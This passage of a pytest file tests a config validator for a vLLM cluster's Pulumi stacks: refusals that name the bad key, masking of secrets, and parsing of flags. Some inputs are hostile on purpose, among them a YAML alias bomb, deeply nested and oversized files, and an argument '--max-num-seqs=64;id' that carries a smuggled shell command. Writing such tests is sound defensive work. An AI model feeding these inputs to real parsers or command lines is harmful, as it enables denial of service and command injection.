                                          1024}, "parallelism.eplb.num_redundant_experts"),
    ("eplb-window-zero", "prod", {"parallelism.eplb.window_size": 0}, "parallelism.eplb.window_size"),
    ("eplb-communicator-unknown", "prod", {"parallelism.eplb.communicator": "nccl"}, "parallelism.eplb.communicator"),
    ("eplb-without-ep", "prod", {"parallelism.expert": False, "parallelism.eplb.enabled": True},
     "parallelism.eplb.enabled"),
    ("eplb-redundant-without-eplb", "prod", {"parallelism.eplb.num_redundant_experts": 16},
     "parallelism.eplb.num_redundant_experts"),
    ("eplb-redundant-not-dividing-ep", "prod", {"parallelism.eplb.enabled": True,
                                                "parallelism.eplb.num_redundant_experts": 15},
     "parallelism.eplb.num_redundant_experts"),
    ("eplb-async-nccl", "prod", {"parallelism.eplb.enabled": True, "parallelism.eplb.communicator": "pynccl"},
     "parallelism.eplb.communicator"),
    ("dbo-on-v41-engram", "prod", {"parallelism.all2all_backend": "deepep_low_latency",
                                   "parallelism.dbo.enabled": True}, "parallelism.dbo.enabled"),
    ("dbo-allgather", "prod", {"parallelism.dbo.enabled": True}, "parallelism.all2all_backend"),
    ("dbo-threshold-negative", "prod", {"parallelism.dbo.prefill_token_threshold": -1},
     "parallelism.dbo.prefill_token_threshold"),
    ("dbo-threshold-below-2", "prod", {"parallelism.all2all_backend": "deepep_low_latency",
                                       "parallelism.dbo.enabled": True, "parallelism.dbo.decode_token_threshold": 1},
     "parallelism.dbo.decode_token_threshold"),
    ("placement-unknown", "prod", {"parallelism.expert_placement": "random"}, "parallelism.expert_placement"),
    ("placement-round-robin-with-eplb", "prod", {"parallelism.eplb.enabled": True,
                                                 "parallelism.expert_placement": "round_robin"},
     "parallelism.expert_placement"),
    ("ep-weight-filter-string", "prod", {"parallelism.ep_weight_filter": "yes"}, "parallelism.ep_weight_filter"),
    ("ep-weight-filter-without-ep", "prod", {"parallelism.expert": False, "parallelism.ep_weight_filter": True},
     "parallelism.ep_weight_filter"),
    ("xa-all2all", "prod", {"serving.extra_args": ["--all2all-backend=deepep_low_latency"]}, "serving.extra_args.0"),
    ("xa-ubatch", "prod", {"serving.extra_args": ["--ubatch-size", "2"]}, "serving.extra_args.0"),
]

# (id, stack, text transform, expected problem key)
TEXT_CASES: list[tuple[str, str, Any, str]] = [
    ("file-not-mapping", "prod", lambda t: "- a\n- b\n", "<stack file>"),
    ("file-scalar", "prod", lambda t: "just text\n", "<stack file>"),
    ("file-empty", "prod", lambda t: "", "<stack file>"),
    ("file-syntax-error", "prod", lambda t: t + "  vllm-cluster:x: [\n", "<stack file>"),
    ("file-tab-indent", "prod", lambda t: t.replace("    tensor: 8", "\ttensor: 8"), "<stack file>"),
    ("file-self-alias", "prod", lambda t: t.replace("  vllm-cluster:vision: true",
                                                    "  vllm-cluster:vision: &v [*v]"), "<stack file>"),
    ("file-alias-bomb", "prod", lambda t: "config:\n  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"  a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 9)) + "  vllm-cluster:x: *a8\n",
     "<stack file>"),
    ("file-undefined-alias", "prod", lambda t: t.replace("vllm-cluster:vision: true", "vllm-cluster:vision: *nope"),
     "<stack file>"),
    ("file-duplicate-key", "prod", lambda t: t.replace("    pipeline: 1\n", "    pipeline: 1\n    pipeline: 2\n"),
     "<stack file>"),
    ("file-two-documents", "prod", lambda t: t + "---\nconfig: {}\n", "<stack file>"),
    ("file-no-config", "prod", lambda t: "encryptionsalt: x\n", "<stack file>"),
    ("file-config-list", "prod", lambda t: "config:\n  - a\n", "config"),
    ("file-config-typo", "prod", lambda t: t.replace("config:", "Config:", 1), "Config"),
    ("file-namespace-underscore", "prod", lambda t: t.replace("vllm-cluster:speculative:", "vllm_cluster:speculative:"),
     "vllm_cluster:speculative"),
    ("file-namespace-typo", "prod", lambda t: t.replace("vllm-cluster:vision:", "vllm-clsuter:vision:"),
     "vllm-clsuter:vision"),
    ("file-key-set-twice", "prod", lambda t: t + "  vision: false\n", "vision"),
    ("file-non-string-key", "prod", lambda t: t.replace("    tensor: 8", "    8: tensor"), "<stack file>"),
    ("file-bad-binary", "prod", lambda t: t.replace("block", "!!binary '%%%'"), "<stack file>"),
    ("file-bad-int-tag", "prod", lambda t: t.replace("    tensor: 8", "    tensor: !!int eight"), "<stack file>"),
    ("file-off-is-string", "prod", lambda t: t.replace("vllm-cluster:vision: true", "vllm-cluster:vision: off"),
     "vision"),
    ("file-octal-port", "prod", lambda t: t.replace("    port: 8030", "    port: 0o17777777"), "serving.port"),
    ("file-inf", "prod", lambda t: t.replace("    max_model_len: 1048576", "    max_model_len: .inf"),
     "serving.max_model_len"),
    ("file-three-colons", "prod", lambda t: t.replace("vllm-cluster:vision:", "vllm-cluster:x:vision:"),
     "vllm-cluster:x:vision"),
    ("file-plain-secret-in-env", "prod", lambda t: t.replace('      PYTHONUNBUFFERED: "1"',
                                                             f'      HF_TOKEN: "{PLAIN_SECRET}"'),
     "container.env.HF_TOKEN"),
    ("file-secure-in-env", "prod", lambda t: t.replace('      PYTHONUNBUFFERED: "1"',
                                                       "      HF_TOKEN: {secure: AAABAGhpZGRlbg==}"),
     "container.env.HF_TOKEN"),
    ("file-huge", "prod", lambda t: t + "#" * (5 * 1024 * 1024), "<stack file>"),
    ("file-alias-long-text", "prod", lambda t: t + "  vllm-cluster:zz: &s " + "A" * 3_000_000 + "\n"
     + "  vllm-cluster:foo: [" + ", ".join(["*s"] * 10) + "]\n", "<stack file>"),
    ("file-key-outside-config", "prod", lambda t: t + "vllm-cluster:vision: false\n", "vllm-cluster:vision"),
    ("file-empty-secure", "prod", lambda t: t + "  vllm-cluster:api_key: {secure: ''}\n", "vllm-cluster:api_key"),
    ("file-deep", "prod", lambda t: t + "  vllm-cluster:x: " + "[" * 200 + "]" * 200 + "\n", "<stack file>"),
]


def _mutated(stack: str, changes: dict[str, Any]) -> dict[str, Any]:
    values = copy.deepcopy(VALUES[stack])
    for path, value in changes.items():
        if value is DEL:
            *parent, last = path.split(".")
            node: Any = values
            for part in parent:
                node = node[int(part)] if isinstance(node, list) else node[part]
            del node[last]
        else:
            set_path(values, path, value)
    return values


def _refused(values: dict[str, Any]) -> ConfigError:
    with pytest.raises(ConfigError) as info:
        build_plan("t", parse_config("t", values))
    return info.value


def _assert_named(error: ConfigError, key: str) -> None:
    keys = [p.key for p in error.problems]
    assert key in keys, f"expected a problem at {key}, got {keys}\n{error.report()}"
    report = error.report()
    assert PLAIN_SECRET not in report and "Traceback" not in report
    assert all(p.message and p.fix for p in error.problems), report


@pytest.mark.parametrize(("stack", "changes", "key"), [c[1:] for c in VALUE_CASES], ids=[c[0] for c in VALUE_CASES])
def test_bad_value_is_refused_naming_its_key(stack: str, changes: dict[str, Any], key: str) -> None:
    _assert_named(_refused(_mutated(stack, changes)), key)


@pytest.mark.parametrize(("stack", "transform", "key"), [c[1:] for c in TEXT_CASES], ids=[c[0] for c in TEXT_CASES])
def test_bad_file_is_refused_naming_its_key(stack: str, transform: Any, key: str) -> None:
    text = transform(TEXT[stack])
    with pytest.raises(ConfigError) as info:
        document = parse_stack_text(text, f"Pulumi.{stack}.yaml")
        build_plan(stack, parse_config(stack, document.values, document.positions))
    _assert_named(info.value, key)
    file_level = [p for p in info.value.problems if p.key.startswith("<") or ":" in p.key]
    assert all(p.where and p.where.startswith(f"Pulumi.{stack}.yaml") for p in file_level if "huge" not in key)


def test_the_table_is_large_and_names_distinct_cases() -> None:
    ids = [c[0] for c in VALUE_CASES] + [c[0] for c in TEXT_CASES]
    assert len(ids) >= 150 and len(set(ids)) == len(ids)


@pytest.mark.parametrize("stack", ["prod", "h20"])
def test_committed_stacks_still_plan(stack: str) -> None:
    document = parse_stack_text(TEXT[stack], f"Pulumi.{stack}.yaml")
    assert build_plan(stack, parse_config(stack, document.values)).nodes


@pytest.mark.parametrize("changes", [
    {"fabric.private_networks": ["1.1.1.0/24", "1.1.2.0/24"]},  # management outside them, the firewall on
    {"firewall.enabled": False, "serving.host": "1.1.1.2"},  # firewall off, management inside the private networks
    {"observability.watch_address": "192.168.7.9", "observability.supervisor_address": "1.1.1.9"},  # private
    {"fabric.private_networks": ["1.1.1.0/24", "1.1.2.0/24"], "observability.watch_address": "10.30.8.2"},  # a node
])
def test_monitoring_kept_inside_the_private_networks_is_not_refused(changes: dict[str, Any]) -> None:
    """The monitoring exposure rule refuses reachability, not addresses: a firewall that admits only the cluster,
    a management network inside fabric.private_networks, a watch or supervisor host in private space (declared or
    never routed) or on a node (which the firewall guards) all plan."""
    plan = build_plan("t", parse_config("t", _mutated("prod", {**OBS, **changes})))
    assert plan.observability is not None


def test_a_control_path_acknowledged_in_admin_paths_is_passed() -> None:
    """`/metrics` for a Prometheus behind the proxy: allowed on purpose, with the acknowledgement."""
    values = _mutated("h20", {**PROXIED, "api.proxy.allowed_paths": [*CHECK_PATHS, "/metrics"],
                              "api.proxy.admin_paths": ["/metrics"]})
    plan = build_plan("t", parse_config("t", values))
    assert plan.proxy is not None and "/metrics" in plan.proxy.allowed_paths
    assert "/metrics" not in plan.proxy.denied_paths


@pytest.mark.parametrize("extra", [
    ["-O", "3"], ["-O3"], ["-O=3"], ["-cc.mode=3"], ["--compilation-config.mode=3"],
    ["--compilation_config", '{"mode": 3}'], ["--enable-prompt-tokens-details"],
])
def test_what_vllm_accepts_is_not_refused(extra: list[str]) -> None:
    """The guard reads argv as FlexibleArgumentParser does: its own shorthands (`-O <n>`, `-O3`, `-cc.x`, `_`
    for `-`) are not false refusals."""
    values = _mutated("prod", {"serving.extra_args": extra})
    assert build_plan("t", parse_config("t", values)).nodes


@pytest.mark.parametrize(("name", "value"), [
    ("TOKENIZERS_PARALLELISM", "false"), ("VLLM_MAX_TOKENS_PER_EXPERT_FP4_MOE", "64"),
    ("HF_HUB_DISABLE_IMPLICIT_TOKEN", "1"), ("VLLM_SKIP_TOKENIZER_INIT", "0"),
    ("GOOGLE_APPLICATION_CREDENTIALS", "/etc/gcp/sa.json"), ("AWS_SHARED_CREDENTIALS_FILE", "/root/.aws/credentials"),
    ("SSH_AUTH_SOCK", "/tmp/ssh.sock"), ("HF_HUB_CACHE", "/data/hf_downloads"), ("NCCL_IB_TIMEOUT", "22"),
    ("UCX_TLS", "rc,sm"), ("NCCL_IB_PKEY", "0"),
])
def test_ordinary_variables_are_not_taken_for_credentials(name: str, value: str) -> None:
    """A credential is found by whole name words and token shapes, not substrings: TOKENIZERS_…, a flag that
    disables a token, a path to a credentials file, a cache dir named hf_… are ordinary settings."""
    where = "fabric.env" if name.startswith(("NCCL_", "UCX_")) else "container.env"
    values = _mutated("h20", {f"{where}.{name}": value})
    assert build_plan("t", parse_config("t", values)).nodes


def test_one_nic_may_carry_the_management_and_the_data_address() -> None:
    """A single-NIC node (the namespace tests, small clusters) uses one address for both planes; only another
    node's address, or the same data IP on two NICs, is refused."""
    values = _mutated("prod", {"nodes.0.data_ips.0": VALUES["prod"]["nodes"][0]["management_ip"]})
    assert build_plan("t", parse_config("t", values)).nodes


@pytest.mark.parametrize("override", [
    f"model.source.url=s3://team-weights/ds?X-Amz-Signature={PLAIN_SECRET}",
    f"model.source=s3://team-weights/ds#{PLAIN_SECRET}",
    f"model.source={{url: s3://team-weights/ds, endpoint_url: 'https://minio:9000/{PLAIN_SECRET}'}}",
    f"model.source.endpoint_url=https://k:{PLAIN_SECRET}@minio:9000",
    f"model.source.url.x=s3://team-weights/ds?X-Amz-Signature={PLAIN_SECRET}",
])
def test_a_source_set_on_the_command_line_is_masked_and_not_echoed_as_its_location(override: str) -> None:
    """`--set` names where a value came from by repeating the override; for model.source that text may hold a
    presigned signature or a password, so the location is `--set KEY=…` and the value is shown masked."""
    from stacks.model.loader import load_stack_document

    overrides = [override] if override.startswith("model.source=") else ["model.source={url: s3://team-weights/ds}",
                                                                           override]
    with pytest.raises(ConfigError) as info:
        load_stack_document("prod", overrides, root=ROOT)
    report = info.value.report()
    key = override.partition("=")[0]
    if key.endswith(".x"):  # not even a key path: refused by --set itself, the value elided
        assert f"{key} = '…': --set: model.source.url is a value, not a mapping" in report, report
    else:
        assert f"at: --set {key}=…" in report and "***" in report, report
    assert PLAIN_SECRET not in report + repr([p.as_dict() for p in info.value.problems])


@pytest.mark.parametrize(("extra", "shown"), [
    (["-O9"], "-O9"), (["-Obanana"], "-Obanana"), (["-cc.mode=banana"], "-cc.mode=banana"),
    (["--all2all-backend=deepep_low_latency"], "--all2all-backend=deepep_low_latency"),
    (["--enable-eplb=true"], "--enable-eplb=true"), (["--max-num-seqs=64;id"], "--max-num-seqs=64;id"),
    (["--max-num-seqs", "64"], "--max-num-seqs 64"), (["-O", "9"], "-O 9"),
])
def test_an_extra_args_refusal_shows_the_words_as_typed_once(extra: list[str], shown: str) -> None:
    """A value attached to its flag (`--flag=value`, `-O<level>`) is part of that word: the refusal echoes the
    argv words the option took, not the word and its value again."""
    problem = next(p for p in _refused(_mutated("h20", {"serving.extra_args": extra})).problems
                   if p.key == "serving.extra_args.0")
    assert problem.value == shown, problem.render()


@pytest.mark.parametrize("typed", ["99999999999999999999", "-99999999999999999999", "18446744073709551616"])
def test_a_huge_whole_number_given_with_set_is_echoed_as_typed(typed: str) -> None:
    """Past 64 bits a YAML reader makes a whole number a float; `--set` keeps the digits the user typed, so the
    refusal shows them (not 1e20 rounded back to 100000000000000000000)."""
    from stacks.model.loader import load_stack

    with pytest.raises(ConfigError) as info:
        load_stack("prod", [f"parallelism.tensor={typed}"], root=ROOT)
    problem = next(p for p in info.value.problems if p.key == "parallelism.tensor")
    assert problem.value == int(typed) and isinstance(problem.value, int), problem.render()
    assert f"parallelism.tensor = {typed}:" in info.value.report()


@pytest.mark.parametrize(("key", "typed", "names"), [
    ("parallelism.all2all_backend", ".nan", "allgather_reducescatter, deepep_high_throughput"),
    ("parallelism.eplb.communicator", "-.inf", "torch_nccl, torch_gloo"),
])
def test_a_nan_for_a_key_that_takes_names_lists_the_names(key: str, typed: str, names: str) -> None:
    """`.nan` is a number to YAML; for a key of names the fix is the names, not 'a finite number'."""
    from stacks.model.loader import load_stack

    with pytest.raises(ConfigError) as info:
        load_stack("prod", [f"{key}={typed}"], root=ROOT)
    problem = next(p for p in info.value.problems if p.key == key)
    assert problem.fix is not None and problem.fix.startswith(f"one of {names}"), problem.render()
    assert "finite number" not in problem.fix


@pytest.mark.parametrize(("extra", "fix"), [
    (["--enable-e"], "did you mean --enable-eplb? the config manages it: set parallelism.eplb.enabled instead"),
    (["--enable-eplbb"], "did you mean --enable-eplb? the config manages it: set parallelism.eplb.enabled instead"),
    (["--enforce-eagr"], "did you mean '--enforce-eager'?"),
])
def test_a_misspelt_flag_near_a_managed_one_points_to_its_config_key(extra: list[str], fix: str) -> None:
    """Suggesting a flag extra_args refuses next sends the user round in a circle: name the key that sets it."""
    problem = next(p for p in _refused(_mutated("h20", {"serving.extra_args": extra})).problems
                   if p.key == "serving.extra_args.0")
    assert problem.fix == fix, problem.render()
